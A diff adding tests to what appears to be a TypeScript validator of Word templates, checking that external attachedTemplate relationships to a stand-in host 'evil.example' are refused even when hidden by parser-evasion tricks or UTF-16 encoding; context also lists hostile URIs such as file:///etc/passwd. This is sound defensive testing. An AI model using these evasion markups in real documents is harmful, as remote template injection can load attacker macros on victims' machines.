@@ -77,6 +77,39 @@ test.each(["file:///etc/passwd", "\\\\server\\a.docx", "javascript:x"])(
   },
 );
 
+const SETTINGS = "word/_rels/settings.xml.rels";
+const TARGET = "http://evil.example/x.dotm";
+const OUTSIDE = `Type="${OFFICE}/officeDocument/2006/relationships/attachedTemplate" TargetMode="External"/>`;
+const RELATION_NAMESPACE = "http://schemas.openxmlformats.org/package/2006/relationships";
+const relations = (markup: string) =>
+  `<Relationships xmlns="${RELATION_NAMESPACE}" xmlns:r-x="${RELATION_NAMESPACE}">${markup}</Relationships>`;
+
+test.each([
+  ["after an address with >", `<Relationship Id="a" Target="${TARGET}?>" ${OUTSIDE}`],
+  ["with a hyphen in its prefix", `<r-x:Relationship Id="a" Target="${TARGET}" ${OUTSIDE}`],
+  [
+    "beside a value that looks like its mode",
+    `<Relationship Id='a TargetMode="Internal"' Target="${TARGET}" ${OUTSIDE}`,
+  ],
+  [
+    "after a comment that opens a quote",
+    `<!-- <Relationship " --><Relationship Id="a" Target="${TARGET}" ${OUTSIDE}<!-- " > -->`,
+  ],
+])("an external relation %s is refused", async (_, markup) => {
+  const refusal = await refusalOf(await templateWith(() => ({ [SETTINGS]: relations(markup) })));
+  expect(refusal).toContain(`внешняя ссылка: ${TARGET}`);
+});
+
+test.each([
+  ["with", "\ufeff"],
+  ["without", ""],
+])("a part in UTF-16 %s a byte order mark is refused", async (_, mark) => {
+  const text = `${mark}${relations(`<Relationship Id="a" Target="${TARGET}" ${OUTSIDE}`)}`;
+  const part = new Uint8Array(Buffer.from(text, "utf16le"));
+  const refusal = await refusalOf(await templateWith(() => ({ [SETTINGS]: part })));
+  expect(refusal).toContain(`не в кодировке UTF-8: ${SETTINGS}`);
+});
+
 test.each([
   ["a glossary", "word/glossary/document.xml", `<w:glossaryDocument ${W}/>`, "glossaryDocument"],
   ["comments", "word/comments.xml", `<w:comments ${W}/>`, "comments"],
